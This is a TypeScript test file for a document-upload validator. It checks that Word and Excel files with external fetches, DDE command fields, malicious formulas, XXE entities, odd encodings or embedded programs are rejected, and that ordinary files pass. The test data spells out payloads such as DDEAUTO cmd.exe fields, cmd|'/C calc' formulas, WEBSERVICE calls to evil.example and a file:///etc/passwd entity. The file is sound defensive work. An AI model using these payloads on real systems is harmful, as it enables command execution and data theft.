import { Document, Packer, PageNumber, Paragraph, TextRun } from "docx";
import { describe, expect, test } from "vitest";
import { aSheet } from "../spreadsheets/fixtures/a-sheet.ts";
import { toXlsx } from "../spreadsheets/to-xlsx.ts";
import { acceptFile } from "./accept-file.ts";
import { aDocx, anXlsx, macroTypes } from "./fixtures/made-files.ts";

const said = async (name: string, content: Buffer): Promise<string> => {
  const file = await acceptFile(name, content);
  return file.ok ? "taken" : file.error;
};

const body = (inside: string): string =>
  `<?xml version="1.0"?><w:document xmlns:w="w"><w:body>${inside}</w:body></w:document>`;
const run = (inside: string): string => `<w:r>${inside}</w:r>`;
const mark = (kind: string): string => run(`<w:fldChar w:fldCharType="${kind}"/>`);
/** A field as Word writes it: its instruction can be cut into pieces anywhere. */
const field = (...pieces: readonly string[]): string =>
  mark("begin") +
  pieces.map((one) => run(`<w:instrText xml:space="preserve">${one}</w:instrText>`)).join("") +
  mark("separate") +
  run("<w:t>Result</w:t>") +
  mark("end");
const word = (inside: string): Buffer => aDocx({ "word/document.xml": body(inside) });
const sheet = (inside: string): Buffer =>
  anXlsx({ "xl/worksheets/sheet1.xml": `<worksheet><sheetData>${inside}</sheetData></worksheet>` });
const cell = (formula: string): Buffer => sheet(`<row><c r="A1"><f>${formula}</f></c></row>`);
const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
const entity = '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>';

describe("a Word file that asks something from elsewhere is refused with words", () => {
  test.each<[string, Buffer]>([
    ["a field of another program", word(field(dde))],
    ["one in pieces", word(field("DD", "EAU", "TO c:\\\\cmd.exe"))],
    ["one in small letters", word(field(" ddeauto c:\\\\cmd.exe"))],
    ["one in signs", word(field("&#68;&#x44;E c:\\\\cmd.exe"))],
    ["one around a comment", word(field("DD<!-- -->E c:\\\\cmd.exe"))],
    ["one in data", word(field("<![CDATA[DDE]]> c:\\\\cmd.exe"))],
    ["one inside another", word(mark("begin") + field(dde) + mark("end"))],
    ["one without a beginning", word(run(`<w:instrText>${dde}</w:instrText>`))],
    ["one without an end", word(mark("begin") + run(`<w:instrText>${dde}</w:instrText>`))],
    ["a simple one", word(`<w:fldSimple w:instr='${dde}'/>`)],
    ["one under another prefix", word(field(dde).replaceAll("w:", "a:"))],
    ["one in a header", aDocx({ "word/header1.xml": body(field(dde)) })],
    ["one that links", word(field("LINK Excel.Sheet.12 C:\\\\a.xlsx"))],
    ["a picture of the web", word(field('INCLUDEPICTURE "https://evil.example/a.png" \\d'))],
    ["a text of another machine", word(field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'))],
    [
      "a source of letters",
      aDocx({
        "word/settings.xml":
          '<w:settings><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>',
      }),
    ],
    [
      "a page of the web in it",
      aDocx({
        "word/_rels/document.xml.rels":
          '<Relationships><Relationship Id="a" Type="http://x/aFChunk" Target="a.htm"/></Relationships>',
      }),
    ],
  ])("%s", async (_what, content) => {
    expect(await said("plan.docx", content)).toMatch(
      /^“plan.docx” fetches a template, a picture or data from elsewhere/,
    );
  });
});

describe("a workbook that asks something from elsewhere is refused with words", () => {
  const link = (inside: string): Buffer =>
    anXlsx({ "xl/externalLinks/externalLink1.xml": `<externalLink>${inside}</externalLink>` });
  test.each<[string, Buffer]>([
    [
      "a connection to the web",
      anXlsx({
        "xl/connections.xml":
          '<connections><connection id="1" type="4"><webPr url="http://evil.example/"/></connection></connections>',
      }),
    ],
    [
      "a connection to a database",
      anXlsx({ "xl/connections.xml": '<x:connections><x:connection id="1"/></x:connections>' }),
    ],
    ["a link to another program", link('<ddeLink ddeService="cmd"/>')],
    ["a link to a part of another file", link('<oleLink r:id="rId1"/>')],
    [
      "a link to a workbook on the web",
      anXlsx({
        "xl/externalLinks/_rels/externalLink1.xml.rels":
          '<Relationships><Relationship Id="rId1" Type="http://x/externalLinkPath" Target="https://evil.example/b.xlsx" TargetMode="External"/></Relationships>',
      }),
    ],
    ["a formula of another program", cell("cmd|'/C calc'!A0")],
    ["one in signs", cell("cmd&#124;&apos;/C calc&apos;&#33;A0")],
    ["one around a comment", cell("cmd|'/C ca<!-- -->lc'!A0")],
    ["one in data", cell("<![CDATA[cmd|'/C calc'!A0]]>")],
    ["one without quotes", cell("MSEXCEL|sheet!R1C1")],
    ["a formula that fetches", cell('WEBSERVICE("http://evil.example/?"&amp;A2)')],
    ["one of a newer Excel", cell('_xlfn.IMAGE("http://evil.example/a.png")')],
    ["a feed", cell('RTD("evil.server",,"x")')],
    [
      "a name that fetches",
      anXlsx({
        "xl/workbook.xml":
          '<workbook><definedNames><definedName name="a">WEBSERVICE("http://evil.example/")</definedName></definedNames></workbook>',
      }),
    ],
    [
      "a rule that fetches",
      sheet(
        '</sheetData><conditionalFormatting><cfRule><formula>WEBSERVICE("http://evil.example/")</formula></cfRule></conditionalFormatting><sheetData>',
      ),
    ],
  ])("%s", async (_what, content) => {
    expect(await said("list.xlsx", content)).toMatch(
      /^“list.xlsx” fetches a template, a picture or data from elsewhere/,
    );
  });
});

describe("entities, another writing and what is packed inside are refused with words", () => {
  const utf16 = `\ufeff<?xml version="1.0" encoding="UTF-16"?>${body(field(dde))}`;
  test.each<[string, string, Buffer, RegExp]>([
    [
      "an entity from a file",
      "a.docx",
      aDocx({ "word/document.xml": entity + body("&e;") }),
      /is damaged/,
    ],
    [
      "an entity in a header",
      "a.docx",
      aDocx({ "word/header1.xml": entity + body("&e;") }),
      /is damaged/,
    ],
    [
      "an entity in another part",
      "a.docx",
      aDocx({ "customXml/item1.xml": `${entity}<x/>` }),
      /is damaged/,
    ],
    [
      "an entity in a sheet",
      "a.xlsx",
      anXlsx({ "xl/worksheets/sheet1.xml": `${entity}<x/>` }),
      /is damaged/,
    ],
    [
      "an entity behind a comment",
      "a.docx",
      aDocx({ "word/document.xml": `<!--${" ".repeat(5_000)}-->${entity}<x/>` }),
      /is damaged/,
    ],
    [
      "UTF-7",
      "a.docx",
      aDocx({ "word/document.xml": '<?xml version="1.0" encoding="utf-7"?><x/>' }),
      /is damaged/,
    ],
    [
      "zeros between its letters",
      "a.docx",
      aDocx({ "word/document.xml": Array.from(body("")).join("\u0000") }),
      /is damaged/,
    ],
    [
      "a field in UTF-16",
      "a.docx",
      aDocx({ "word/footer1.xml": Buffer.from(utf16, "utf16le") }),
      /from elsewhere/,
    ],
    [
      "a program of a task pane",
      "a.docx",
      aDocx({ "word/webextensions/webextension1.xml": "<x/>" }),
      /holds macros/,
    ],
    [
      "a workbook with macros inside",
      "a.docx",
      aDocx({
        "word/embeddings/a.xlsx": anXlsx({ "[Content_Types].xml": macroTypes }),
      }),
      /holds another file/,
    ],
    ["a program inside", "a.docx", aDocx({ "word/embeddings/a.exe": "MZ" }), /holds another file/],
  ])("%s", async (_what, name, content, reason) => {
    expect(await said(name, content)).toMatch(reason);
  });
});

describe("ordinary documents are taken", () => {
  test.each<[string, string, Buffer]>([
    [
      "fields of its own",
      "a.docx",
      word(field(" PAGE ") + field('TOC \\o "1-3"') + field('HYPERLINK "https://school.example/"')),
    ],
    ["a picture beside it", "a.docx", word(field('INCLUDEPICTURE "crest.png"'))],
    ["words about DDE", "a.docx", word(run("<w:t>DDE, LINK and WEBSERVICE( are words</w:t>"))],
    ["a mark that stands for a lost character", "a.docx", word(run("<w:t>caf\ufffd</w:t>"))],
    [
      "comments and data",
      "a.docx",
      aDocx({ "docProps/app.xml": "<x><!-- made --><![CDATA[here]]></x>" }),
    ],
    ["a chart's own table", "a.xlsx", anXlsx({ "xl/charts/chart1.xml": "<c:f>Sheet1!$A$1</c:f>" })],
    ["a table inside", "a.docx", aDocx({ "word/embeddings/a.xlsx": anXlsx() })],
    ["formulas", "a.xlsx", cell("SUM(A1:A9)&amp;Sheet2!B1")],
    ["a stroke in a text", "a.xlsx", cell('TEXTJOIN("|",TRUE,Sheet1!A1,Data!B2)')],
    ["a function of a like name", "a.xlsx", cell("MYIMAGE(A1)+RECALL(B1)")],
    [
      "a text that looks like a formula",
      "a.xlsx",
      sheet('<row><c t="inlineStr"><is><t>=cmd|calc!A0</t></is></c></row>'),
    ],
    ["an empty list of connections", "a.xlsx", anXlsx({ "xl/connections.xml": "<connections/>" })],
  ])("%s", async (_what, name, content) => {
    expect(await said(name, content)).toBe("taken");
  });

  test("as Lantern writes them", async () => {
    const footer = new Paragraph({ children: [new TextRun({ children: [PageNumber.CURRENT] })] });
    const file = new Document({ sections: [{ children: [new Paragraph("Report"), footer] }] });
    expect(await said("report.docx", await Packer.toBuffer(file))).toBe("taken");
    const book = await toXlsx(
      aSheet({ rows: [["=cmd|' /C calc'!A0", 1, null, "=WEBSERVICE(1)"]] }),
    );
    expect(await said("list.xlsx", book)).toBe("taken");
  });
});
